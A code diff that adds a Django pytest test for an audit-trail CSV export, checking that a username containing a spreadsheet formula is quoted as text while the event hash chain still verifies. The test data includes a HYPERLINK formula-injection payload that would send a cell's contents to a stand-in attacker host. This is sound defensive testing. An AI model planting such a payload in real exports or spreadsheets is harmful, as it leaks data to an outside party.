@@ -9,8 +9,9 @@ import json
 import pytest
 from django.contrib.auth.models import Group, User
 
+from conftest import intake_clerk
 from openimr.audit.models import AuditEvent
-from openimr.audit.selectors import case_timeline
+from openimr.audit.selectors import case_timeline, trail_verify
 from openimr.audit.services import audit_record
 from openimr.cases.interchange import case_from_document
 from openimr.cases.services import case_import
@@ -88,3 +89,24 @@ def test_logging_in_comes_first(client, case):
     response = client.get(f"{URL}.csv")
     assert response.status_code == 302 and response["Location"].startswith("/login/")
     assert not AuditEvent.objects.filter(action__startswith="case.trail_exported").exists()
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_quoted_and_the_copy_still_checks(client, case):
+    # A username a spreadsheet would run: the export's own event names it as the actor.
+    name = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
+    clerk = intake_clerk(name)
+    client.force_login(clerk)
+    audit_record(actor=clerk, action="case.viewed", object_type="case", object_id=CASE)
+
+    rows = list(csv.DictReader(io.StringIO(client.get(f"{URL}.csv").content.decode())))
+
+    assert rows[-1]["actor"] == "'" + name  # shown as text, not run
+    assert rows[-2]["actor"] == "'" + name
+    # The copy checks against the trail: each row's hashes are the stored event's, and
+    # the chain, which covers the name as stored, still verifies.
+    stored = {e.pk: (e.prev_hash, e.hash, e.actor_label) for e in AuditEvent.objects.all()}
+    assert all(stored[int(r["id"])][:2] == (r["prev_hash"], r["hash"]) for r in rows)
+    assert stored[int(rows[-1]["id"])][2] == name
+    assert trail_verify().ok
+    # The JSON download holds the name as stored.
+    assert client.get(f"{URL}.json").json()["events"][-1]["actor"] == name
